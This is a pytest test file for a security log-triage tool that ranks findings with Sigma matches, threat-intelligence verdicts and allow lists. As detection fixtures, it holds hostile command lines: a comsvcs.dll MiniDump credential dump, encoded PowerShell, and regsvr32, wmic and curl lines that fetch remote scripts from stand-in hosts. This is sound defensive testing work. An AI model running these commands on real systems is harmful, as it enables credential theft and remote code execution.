"""Findings: ranked, explainable, configurable; Sigma and TI verdicts as optional inputs."""

from __future__ import annotations

import gzip
from pathlib import Path

import pandas as pd
import pytest

from asisdk.data import sample_events_frame
from asisdk.errors import ConfigurationError
from asisdk.executors import InlineExecutor
from asisdk.pipeline import (
    FINDING_COLUMNS,
    SIGMA_MATCH_COLUMNS,
    AllowList,
    FindingWeights,
    TriageOptions,
    TriageResult,
    load_events,
    load_frame,
    render_report,
    run_triage,
    write_report,
)
from asisdk.pipeline._stages import find_patterns, protect_spans

from .reportpage import read_page

SAMPLE_CMD = sample_events_frame()["CommandLine"].fillna("")


def _rank_of(result: TriageResult, mask: pd.Series) -> int:
    """Best rank of a finding holding one of the events in ``mask``."""
    wanted = set(result.events.index[mask.reindex(result.events.index, fill_value=False)])
    ranks = []
    for rank, index, rows in result.findings[["rank", "event_index", "asi_rows"]].itertuples(
        index=False, name=None
    ):
        covered = {int(r) for r in str(rows).split(";")}
        rows_wanted = set(result.events.loc[list(wanted), "asi_row"]) if wanted else set()
        if index in wanted or covered & rows_wanted:
            ranks.append(int(rank))
    return min(ranks) if ranks else 10**9


def test_demo_credential_access_and_encoded_powershell_are_in_the_top_10(
    sample_result: TriageResult,
) -> None:
    comsvcs = SAMPLE_CMD.str.contains("comsvcs.dll MiniDump", regex=False)
    encoded = SAMPLE_CMD.str.contains(" -enc ", regex=False)
    assert _rank_of(sample_result, comsvcs) <= 10
    assert _rank_of(sample_result, encoded) <= 10
    assert list(sample_result.findings.columns) == list(FINDING_COLUMNS)
    first = sample_result.findings.iloc[0]
    # Every finding says why it is where it is: the score is the sum of its reasons' points.
    reasons = sample_result.finding_reasons
    assert reasons[reasons["rank"] == first["rank"]]["points"].sum() == first["score"]
    assert "decoded payload" in first["reasons"]


def test_identical_events_on_one_host_are_one_finding(sample_result: TriageResult) -> None:
    comsvcs = sample_result.findings[
        sample_result.findings["command_line"].str.contains("comsvcs", regex=False)
    ]
    # Sysmon 1 and Security 4688 of the same process: one finding with both rows.
    assert len(comsvcs) == 1
    assert comsvcs.iloc[0]["events"] == 2
    assert len(comsvcs.iloc[0]["asi_rows"].split(";")) == 2


def test_rarity_alone_never_outranks_a_payload_or_a_high_sigma_match(
    sample_result: TriageResult,
) -> None:
    findings = sample_result.findings
    rare_only = findings[findings["reason_kinds"] == "rare_pattern"]
    payload = findings[findings["reason_kinds"].str.contains("decoded_payload")]
    assert len(rare_only)
    assert len(payload)
    assert rare_only["score"].max() < payload["score"].min()
    weights = FindingWeights()
    assert weights.rare_pattern + weights.rare_image < weights.sigma["low"]
    assert weights.rare_pattern + weights.rare_image < weights.decoded_payload


def _sigma_frame(events: pd.DataFrame, level: str, author: str = "Florian Roth") -> pd.DataFrame:
    """Sigma matches in the documented shape, for the first ``whoami`` event."""
    target = events.index[events["CommandLine"].fillna("").str.contains("tasklist")][0]
    return pd.DataFrame(
        {
            "event_index": [target],
            "rule_id": ["6f5a1a3e-0000-4000-8000-000000000001"],
            "title": ["Process discovery with tasklist"],
            "level": [level],
            "technique": ["T1057"],
            "author": [author],
        }
    )[list(SIGMA_MATCH_COLUMNS)]


def test_sigma_matches_rank_and_are_attributed() -> None:
    loaded = load_frame(sample_events_frame())
    plain = run_triage(loaded, executor=InlineExecutor())
    matches = _sigma_frame(plain.events, "high")
    target = int(matches["event_index"][0])
    before = plain.findings[plain.findings["event_index"] == target]
    result = run_triage(loaded, executor=InlineExecutor(), sigma=matches)
    row = result.findings[result.findings["event_index"] == target].iloc[0]
    assert "sigma" in row["reason_kinds"]
    assert "Process discovery with tasklist [T1057] (rule by Florian Roth)" in row["reasons"]
    assert row["sigma_authors"] == "Florian Roth"
    # A high Sigma match outranks every finding that has only rarity.
    rare_only = result.findings[result.findings["reason_kinds"] == "rare_pattern"]
    assert row["score"] > rare_only["score"].max()
    assert before.empty or row["rank"] < before.iloc[0]["rank"]
    page = read_page(render_report(result, timeline="svg"))
    assert page.sections["sigma"] == "1"
    assert page.body_rows["sigma-table"] == 1
    text = "".join(page.text)
    assert "Florian Roth" in text
    assert "Detection Rule License" in text


def test_sigma_as_a_function_and_min_level() -> None:
    loaded = load_frame(sample_events_frame())

    def match(events: pd.DataFrame) -> pd.DataFrame:
        # The engine's own column names: "index" and a list of techniques.
        found = _sigma_frame(events, "low").rename(columns={"event_index": "index"})
        return found.assign(techniques=[["T1057", "T1082"]]).drop(columns="technique")

    low = run_triage(loaded, executor=InlineExecutor(), sigma=match)
    assert low.findings["reasons"].str.contains("T1057, T1082", regex=False).any()
    high_only = run_triage(
        loaded,
        executor=InlineExecutor(),
        sigma=match,
        options=TriageOptions(min_level="high"),
    )
    assert not high_only.findings["reason_kinds"].str.contains("sigma").any()
    assert high_only.sigma_matches is not None
    assert len(high_only.sigma_matches) == 1
    with pytest.raises(ConfigurationError):
        TriageOptions(min_level="severe")  # type: ignore[arg-type]


def test_threat_intelligence_verdicts_are_reasons() -> None:
    loaded = load_frame(sample_events_frame())
    verdicts = pd.DataFrame(
        {
            "value": ["http://10.10.10.5:8444/launcher.sct", "172.18.38.5"],
            "verdict": ["malicious", "harmless"],
            "severity": ["high", "none"],
            "provider": ["OTX", "OTX"],
        }
    )
    result = run_triage(loaded, executor=InlineExecutor(), ti_verdicts=verdicts)
    flagged = result.findings[result.findings["reason_kinds"].str.contains("threat_intel")]
    assert len(flagged) >= 1
    assert (
        "threat intelligence by OTX: http://10.10.10.5:8444/launcher.sct is malicious"
        in (flagged.iloc[0]["reasons"])
    )
    assert flagged["command_line"].str.contains("regsvr32", regex=False).any()
    assert not result.findings["reasons"].str.contains("172.18.38.5 is harmless").any()


def test_weights_are_configurable() -> None:
    loaded = load_frame(sample_events_frame())
    silent = FindingWeights(rare_pattern=0, rare_image=0)
    result = run_triage(loaded, executor=InlineExecutor(), options=TriageOptions(weights=silent))
    rare_only = result.findings[result.findings["reason_kinds"] == ""]
    assert (rare_only["score"] == 0).all()
    heavy = FindingWeights(credential_access=500)
    result = run_triage(loaded, executor=InlineExecutor(), options=TriageOptions(weights=heavy))
    assert "comsvcs" in result.findings.iloc[0]["command_line"]


def test_allow_list_parses_and_applies(tmp_path: Path) -> None:
    allow = AllowList.from_text(
        "# our noise\n10.10.10.0/24\nsha256: " + "ab" * 32 + "\n"
        "C:\\Windows\\System32\\rundll32.exe\ncommand: comsvcs\\.dll\nupdates.example.com\n"
    )
    assert allow.addresses == ("10.10.10.0/24",)
    assert allow.hashes == ("ab" * 32,)
    assert allow.images == ("c:\\windows\\system32\\rundll32.exe",)
    assert allow.commands == ("comsvcs\\.dll",)
    assert allow.allows_indicator("url", "http://10.10.10.5:80")
    assert allow.allows_indicator("dns", "cdn.updates.example.com")
    assert not allow.allows_indicator("dns", "updates.example.com.evil.net")
    loaded = load_frame(sample_events_frame())
    result = run_triage(loaded, executor=InlineExecutor(), options=TriageOptions(allow=allow))
    assert result.allowed_iocs >= 3
    assert not result.iocs["observable"].str.contains("10.10.10.5", regex=False).any()
    assert not result.findings["image"].str.lower().str.endswith("rundll32.exe").any()
    with pytest.raises(ConfigurationError, match="line 1"):
        AllowList.from_text("address: 10.0.0.300")
    with pytest.raises(ConfigurationError, match="bad regex"):
        AllowList.from_text("command: (unclosed")


def test_hash_shaped_ids_are_not_hashes() -> None:
    container = "4f" * 32
    real = "9a" * 32
    frame = pd.DataFrame(
        {
            "CommandLine": [
                f"docker logs --container-id {container}",
                f"certutil -hashfile x.exe SHA256 {real}",
                f"ProcessGuid: {'1c' * 16}",
            ]
        }
    )
    result = run_triage(load_frame(frame), executor=InlineExecutor())
    hashes = set(result.iocs.loc[result.iocs["ioc_type"].str.startswith("sha"), "observable"])
    assert real in hashes
    assert container not in hashes
    assert "1c" * 16 not in set(result.iocs["observable"])
    assert result.identifier_hashes == 2


def test_wildcards_never_swallow_urls_unc_paths_ips_or_payloads() -> None:
    lines = (
        ["wmic.exe process list /FORMAT:list"] * 5
        + ["wmic.exe process list /FORMAT:https://evil.example/x.xsl"]
        + ["regsvr32 /s /i:C:\\temp\\a.sct scrobj.dll"] * 3
        + ["regsvr32 /s /i:https://evil.example/a.sct scrobj.dll"]
        + ["net use z: \\\\10.0.0.5\\c$", "net use z: /persistent:no"]
    )
    patterns, labels = find_patterns(pd.DataFrame({"cmd": lines}), ["cmd"], rare_min_events=1)
    templates = dict(zip(patterns["template"], patterns["exemplars"], strict=True))
    assert templates["wmic.exe process list /FORMAT:<url>"] == "https://evil.example/x.xsl"
    assert templates["regsvr32 /s /i:<url> scrobj.dll"] == "https://evil.example/a.sct"
    assert templates["net use z: <unc>"] == "\\\\10.0.0.5\\c$"
    assert labels[5] != labels[0]
    assert labels[9] != labels[6]
    payload = "SQBmACgAJABQAFMAVgBFAFIAUwBpAE8AbgBUAGEAYgBMAGUA"
    assert protect_spans(f"powershell -enc {payload}") == (
        "powershell -enc <payload>",
        (payload,),
    )


def test_rare_patterns_table_shows_host_user_parent_and_whole_line(
    sample_result: TriageResult,
) -> None:
    rare = sample_result.rare_patterns
    assert (rare["example_host"] != "").all()
    assert (rare["example_parent"] != "").any()
    page = render_report(sample_result, timeline="svg")
    assert "<th>Host</th><th>User</th><th>Parent</th><th>Example line</th>" in page


def test_indicators_link_to_their_events(sample_result: TriageResult) -> None:
    page = render_report(sample_result, timeline="svg")
    events = set(pd.Series(page.split('id="event-')[1:]).str.split('"').str[0])
    links = set(pd.Series(page.split('href="#event-')[1:]).str.split('"').str[0])
    assert links
    assert links <= events  # every link lands on a row of the event table
    c2 = sample_result.ioc_hits[sample_result.ioc_hits["observable"] == "http://10.10.10.5"]
    assert {str(i) for i in c2["src_index"].head(5)} <= links


def test_findings_csv_is_written(sample_result: TriageResult, tmp_path: Path) -> None:
    _, files = write_report(sample_result, tmp_path, timeline="svg", top=5)
    written = pd.read_csv(files["findings.csv"])
    assert len(written) == len(sample_result.findings)
    assert written["rank"].tolist() == list(range(1, len(written) + 1))
    page = read_page(files["report.html"].read_text(encoding="utf-8"))
    assert page.body_rows["findings-table"] == 5


EVTX = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "evtx" / "data"


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("evtx-credential_access-sysmon_rdrleakdiag_lsass_dump", "credential_access"),
        ("evtx-defense_evasion-DE_1102_security_log_cleared", "log_cleared"),
        ("otrf-credential_access-cmd_sam_copy_esentutl", "credential_access"),
    ],
)
def test_real_attack_logs_put_the_attack_first(name: str, kind: str, tmp_path: Path) -> None:
    plain = tmp_path / f"{name}.jsonl"
    plain.write_bytes(gzip.decompress((EVTX / f"{name}.jsonl.gz").read_bytes()))
    result = run_triage(load_events([plain]), executor=InlineExecutor())
    assert kind in result.findings.iloc[0]["reason_kinds"]
    if "EventRecordID" in result.events.columns:
        assert pd.notna(result.findings.iloc[0]["EventRecordID"])


def test_sigma_frame_indexed_by_event_and_log_clearing_context(tmp_path: Path) -> None:
    name = "evtx-defense_evasion-DE_1102_security_log_cleared"
    plain = tmp_path / f"{name}.jsonl"
    plain.write_bytes(gzip.decompress((EVTX / f"{name}.jsonl.gz").read_bytes()))
    loaded = load_events([plain])
    first = run_triage(loaded, executor=InlineExecutor())
    cleared = int(first.findings.iloc[0]["event_index"])
    assert (
        "later events of PC01.example.corp are in this capture"
        in (first.findings.iloc[0]["reasons"])
    )
    matches = pd.DataFrame(
        {
            "rule_id": ["f7d8b0e3-0000-4000-8000-000000000002"],
            "title": ["Security Eventlog Cleared"],
            "level": ["medium"],
            "techniques": [["T1070.001"]],
            "author": ["Florian Roth (Nextron Systems)"],
        },
        index=[cleared],
    )
    result = run_triage(loaded, executor=InlineExecutor(), sigma=matches)
    top = result.findings.iloc[0]
    assert top["event_index"] == cleared
    assert top["score"] == first.findings.iloc[0]["score"] + FindingWeights().sigma["medium"]
    assert top["sigma_authors"] == "Florian Roth (Nextron Systems)"


def test_sigma_engine_result_object_is_read() -> None:
    """The engine's ``SigmaMatches``: a ``frame`` with ``rule_title`` and ``techniques``."""

    class Matches:
        def __init__(self, frame: pd.DataFrame) -> None:
            self.frame = frame

    loaded = load_frame(sample_events_frame())

    def match(events: pd.DataFrame) -> Matches:
        found = _sigma_frame(events, "critical").rename(columns={"title": "rule_title"})
        return Matches(found.assign(techniques=[["T1057"]]).drop(columns="technique"))

    result = run_triage(loaded, executor=InlineExecutor(), sigma=match)
    top = result.findings.iloc[0]
    assert "Sigma critical: Process discovery with tasklist [T1057]" in top["reasons"]
    with pytest.raises(TypeError, match="expected a DataFrame of Sigma matches"):
        run_triage(loaded, executor=InlineExecutor(), sigma=lambda events: 42)


def test_threat_intelligence_promotes_malicious_and_demotes_known_good() -> None:
    import attrs

    from asisdk.pipeline import load_frame, run_triage
    from asisdk.pipeline._triage import rerank_findings

    events = pd.DataFrame(
        {
            "CommandLine": [
                "curl http://203.0.113.7/stage2.ps1 -o s.ps1",
                "curl http://198.51.100.20/update.bin -o u.bin",
            ],
            "Computer": ["ws1", "ws1"],
        }
    )
    first = run_triage(load_frame(events))
    assert {"indicator"} <= set(first.finding_reasons["kind"])
    verdicts = pd.DataFrame(
        {
            "value": ["http://203.0.113.7/stage2.ps1"],
            "verdict": ["malicious"],
            "severity": [90],
            "provider": ["otx"],
        }
    )
    # the second address is known good: the CLI marks it ti_demote from the TI answer
    iocs = first.iocs.assign(ti_demote=first.iocs["observable"].str.contains("198.51.100.20"))
    again = rerank_findings(attrs.evolve(first, iocs=iocs), ti_verdicts=verdicts)
    top = again.findings.iloc[0]
    assert "203.0.113.7" in top["command_line"]
    assert "threat_intel" in top["reason_kinds"]
    demoted = again.finding_reasons.merge(again.findings[["rank", "command_line"]], on="rank")
    known_good = demoted[demoted["command_line"].str.contains("198.51.100.20")]
    assert "indicator" not in set(known_good["kind"])
